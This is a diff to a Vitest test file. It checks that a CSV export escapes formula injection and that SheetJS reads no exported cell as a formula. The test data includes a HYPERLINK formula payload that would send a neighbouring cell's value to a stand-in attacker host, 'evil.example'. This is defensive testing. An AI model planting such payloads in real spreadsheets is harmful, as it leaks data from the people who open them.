@@ -5,6 +5,9 @@
 import { readFileSync } from 'node:fs';
 import { join, resolve } from 'node:path';
 import { parse } from 'csv-parse/sync';
+import { stringify as stringifyCsv } from 'csv-stringify/sync';
+// SheetJS, the spreadsheet library most web tools use to open a CSV; its last release on npm, used here only to read.
+import { read as readSpreadsheet } from 'xlsx';
 import { z } from 'astro/zod';
 import { describe, expect, it } from 'vitest';
 import { codebook } from '../../src/lib/codebook';
@@ -118,6 +121,15 @@ describe('the CSV', () => {
     expect(formulas).toEqual([]);
     const row = rows[1]!;
     expect(row[header!.indexOf('title')]).toBe('\'=HYPERLINK("https://evil.example/?"&A2,"Open the report")');
+
+    // Opened as a spreadsheet opens it (SheetJS reads a cell starting with "=" as a formula): no cell is one, though
+    // the same values written without the escape are.
+    const formulaCells = (csv: string) =>
+      Object.entries(readSpreadsheet(csv, { type: 'string', cellFormula: true }).Sheets.Sheet1!)
+        .filter(([address, cell]) => !address.startsWith('!') && (cell as { f?: string }).f !== undefined)
+        .map(([address]) => address);
+    expect(formulaCells(toCsv([tricky, hostile], plan))).toEqual([]);
+    expect(formulaCells(stringifyCsv([[hostile.title]]))).toEqual(['A1']);
   });
 
   it('starts with a byte order mark, so Excel reads it as UTF-8', () => {
